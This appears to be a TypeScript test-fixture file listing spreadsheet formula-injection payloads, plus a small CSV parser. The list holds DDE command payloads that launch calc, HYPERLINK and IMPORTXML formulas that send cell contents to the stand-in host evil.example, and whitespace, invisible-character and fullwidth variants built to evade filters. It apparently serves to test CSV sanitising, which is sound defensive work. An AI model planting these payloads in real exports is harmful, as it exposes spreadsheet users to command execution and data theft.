/** Formula injections for spreadsheets. */
export const FORMULAS = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", '|calc', '+94 71 000 0000', '%0A=1+1'],
  ...['=HYPERLINK("https://evil.example/?x="&A1,"click")', '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")'],
  // Behind what a spreadsheet leaves out.
  ...[
    '  =1+1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '"=1+1"',
    "'=1+1",
    ' "\t@SUM(A1)',
    '\u00a0=1+1',
    '\uFEFF=1+1',
    '\u200b=1+1',
    '“=1+1”',
  ],
  ...['＝1+1', '＋1', '－1+1', '＠SUM(1)'],
] as const;

/** Parses CSV (RFC 4180). */
export function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const cells = text.replace(/^\uFEFF/, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy);
  for (const [, quoted, plain = '', end] of cells) {
    row.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}
